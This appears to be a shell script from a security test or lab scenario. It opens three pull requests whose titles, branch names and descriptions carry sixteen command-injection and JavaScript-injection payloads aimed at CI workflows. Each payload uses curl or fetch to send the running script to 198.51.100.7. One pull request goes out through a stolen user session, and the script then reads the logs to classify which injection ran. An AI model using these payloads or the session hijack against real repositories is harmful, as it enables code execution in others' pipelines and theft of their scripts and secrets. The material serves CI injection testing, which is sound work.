# Sixteen titles, descriptions and branch names in three pull requests. Each runs in one kind of place, and sleeps in the
# others. What runs sends its script, or its number, to 198.51.100.7.
# The last one comes from Aya's stolen session: who writes the words says nothing about what they do.
mark='Tide 7\8'
send='cat $0|curl -s -d @- 198.51.100.7'
call='curl${IFS}-s${IFS}198.51.100.7'
js='await fetch'
open='gh api "repos/$who/tides/git/refs" -f ref="refs/heads/$branch" -f sha="${sha:-$(git -C ~/tides rev-parse HEAD)}" --silent &&
  gh api repos/lantern-tides/tides/pulls -f head="$who:$branch" -f base=main -f title="$title" -f body="$body" --silent'
who=cuckoo sha=$(git -C ~/tides rev-parse HEAD)
title="$mark; $send/t1 #\"; $send/t2; #" branch="a;$call/r1;\"&$call/r4&\";'|$call/r5|'"
body=$'one\nEOF\n$(curl -s 198.51.100.7/b5)\n`curl -s 198.51.100.7/b6`'
eval "$open" || exit 127
title="$mark \`$send/t4\`" branch="c\`$call/r3\`"
body="\${$js('http://198.51.100.7/b1')}\`+($js('http://198.51.100.7/b2'))+\`"
eval "$open" || exit 127
export who=aya branch body title="$mark \$($send/t3) #' | $send/t5 #" branch="b\$($call/r2)"
export body="\"+($js(\`http://198.51.100.7/b3\`))+\"'+($js(\`http://198.51.100.7/b4\`))+'"
as aya "$open" || exit 127
sleep 3m
loot magpie > received
hits=$(sed -n 's|^198\.51\.100\.7 192\.0\.2\.[0-9]* [A-Z]* /\([tbr][1-6]\)$|\1|p' received)
if [ -z "$hits" ]; then
  say "Three pull requests came, with five ways to run a title, five for a branch name, and six for a description. None of them ran."
  exit 1
fi
say "Words of strangers ran:" $hits
# In which step: the logs of the runs show the words in the script.
for run in $(gh run list -R lantern-tides/tides -L 20 --json databaseId,displayTitle --jq '.[] | select(.displayTitle | startswith("Tide 7")) | .databaseId'); do
  gh run view "$run" -R lantern-tides/tides --log
done > logs
step() { grep -F "$1" logs | head -n 1 | cut -f 2; }
hit() { [[ " $(echo $hits) " == *" $1 "* ]]; }
# What arrived of one kind, and what it says of the workflow.
tell() { found "$1" step="$(step "/$2")"; evidence --of "$1" ci.logs "198.51.100.7/$2"; }
first() { for it in $hits; do case $it in $1*) echo "${it#?}"; return;; esac; done; }
t=$(first t) b=$(first b) r=$(first r)
if [ -n "$t" ]; then
  grep -A 1 " /t$t\$" received > sent
  if grep -qF 'Tide 7\\8' sent; then tell JSON "t$t"
  elif ! grep -qF 'Tide 7\8' sent; then tell EVAL "t$t"
  elif hit t1; then tell TITLE "t$t"
  elif hit t2; then tell QUOTED "t$t"
  elif hit t4; then tell FILTER "t$t"
  else tell TITLE "t$t"; fi
fi
[ -z "$r" ] || tell BRANCH "r$r"
[ -z "$b" ] || tell BODY "b$b"
exit 0
